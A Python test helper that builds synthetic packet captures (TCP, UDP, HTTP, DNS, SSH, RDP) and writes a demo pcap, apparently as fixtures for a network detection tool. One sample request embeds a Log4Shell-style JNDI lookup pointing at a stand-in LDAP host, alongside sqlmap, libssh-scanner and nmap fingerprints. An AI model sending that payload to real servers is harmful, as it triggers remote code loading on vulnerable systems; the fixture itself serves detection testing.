"""Captures built from exchanges: TCP with handshake and acknowledgements, UDP."""
import socket
import struct

CLIENT, SERVER = "10.1.0.10", "10.1.0.1"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_packet(source, destination, protocol, payload):
    if ":" in source:
        s, d = (socket.inet_pton(socket.AF_INET6, a) for a in (source, destination))
        pseudo = s + d + struct.pack("!II", len(payload), protocol)
        head = struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64) + s + d
        return head, pseudo
    s, d = (socket.inet_aton(a) for a in (source, destination))
    pseudo = s + d + struct.pack("!BBH", 0, protocol, len(payload))
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0) + s + d
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:], pseudo


def frame(source, destination, protocol, payload, at):
    head, pseudo = ip_packet(source, destination, protocol, payload)
    c = checksum(pseudo + payload)
    payload = payload[:at] + struct.pack("!H", c or 0xFFFF) + payload[at + 2:]
    ether = b"\2\0\0\0\0\2\2\0\0\0\0\1" + (b"\x86\xdd" if ":" in source else b"\x08\x00")
    return ether + head + payload


class Capture:
    def __init__(self):
        self.frames = []
        self.port = 40000

    def tcp_segment(self, source, sport, destination, dport, flags, seq, ack, payload=b""):
        head = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 65000, 0, 0)
        self.frames.append(frame(source, destination, 6, head + payload, 16))

    def tcp(self, port, turns, client=CLIENT, server=SERVER, mss=1400):
        """turns: ("c" or "s", bytes) in order; each segment is acknowledged."""
        self.port += 1
        ends = {"c": (client, self.port), "s": (server, port)}
        seq = {"c": 1000, "s": 5000}

        def send(side, flags, payload=b""):
            other = "s" if side == "c" else "c"
            a, b = ends[side], ends[other]
            self.tcp_segment(*a, *b, flags, seq[side], seq[other] if flags & 16 else 0, payload)
            seq[side] += len(payload) + (1 if flags & 3 else 0)

        send("c", 2)
        send("s", 18)
        send("c", 16)
        for side, data in turns:
            for at in range(0, len(data), mss):
                send(side, 24, data[at:at + mss])
                send("s" if side == "c" else "c", 16)
        send("c", 17)
        send("s", 17)
        send("c", 16)

    def udp(self, port, turns, client=CLIENT, server=SERVER):
        self.port += 1
        for side, data in turns:
            a, b = ((client, self.port), (server, port))
            if side == "s":
                a, b = b, a
            head = struct.pack("!HHHH", a[1], b[1], 8 + len(data), 0)
            self.frames.append(frame(a[0], b[0], 17, head + data, 6))

    def write(self, path):
        with open(path, "wb") as f:
            f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for n, data in enumerate(self.frames):
                f.write(struct.pack("<IIII", 1700000000 + n // 1000, n % 1000 * 1000, len(data), len(data)) + data)


def request(target="/", method="GET", headers=(), body=b""):
    head = f"{method} {target} HTTP/1.1\r\nHost: www.example.test\r\n" + "".join(h + "\r\n" for h in headers)
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode() + b"\r\n" + body


def response(body=b"ok", status="200 OK", headers=()):
    head = f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n" + "".join(h + "\r\n" for h in headers)
    return head.encode() + b"\r\n" + body


def dns_name(name):
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"


def dns_query(name, rrtype=1, ident=7):
    return struct.pack("!HHHHHH", ident, 0x0100, 1, 0, 0, 0) + dns_name(name) + struct.pack("!HH", rrtype, 1)


def dns_answer(name, address="192.0.2.1", ident=7):
    return (struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + dns_name(name) + struct.pack("!HH", 1, 1) +
            b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton(address))


def ssh_turns(client=b"SSH-2.0-OpenSSH_9.2\r\n", server=b"SSH-2.0-OpenSSH_9.2p1\r\n"):
    return [("s", server), ("c", client)]


def rdp_connect(cookie):
    body = b"Cookie: mstshash=" + cookie + b"\r\n" + bytes([1, 0, 8, 0, 3, 0, 0, 0])
    x224 = bytes([6 + len(body), 0xE0, 0, 0, 0, 0, 0]) + body
    return b"\x03\x00" + (4 + len(x224)).to_bytes(2, "big") + x224


RDP_CONFIRM = bytes.fromhex("030000130ed000001234000200080002000000")


def demo_capture(path):
    c = Capture()
    c.tcp(80, [("c", request()), ("s", response())])
    c.tcp(80, [("c", request("/?q=${jndi:ldap://203.0.113.9/x}")), ("s", response())])
    c.tcp(80, [("c", request(headers=["User-Agent: sqlmap/1.7"])), ("s", response())])
    c.udp(53, [("c", dns_query("blocked.sluice.test")), ("s", dns_answer("blocked.sluice.test"))])
    c.tcp(22, ssh_turns(b"SSH-2.0-libssh-scanner\r\n"))
    c.tcp(3389, [("c", rdp_connect(b"nmap")), ("s", RDP_CONFIRM)])
    c.write(path)
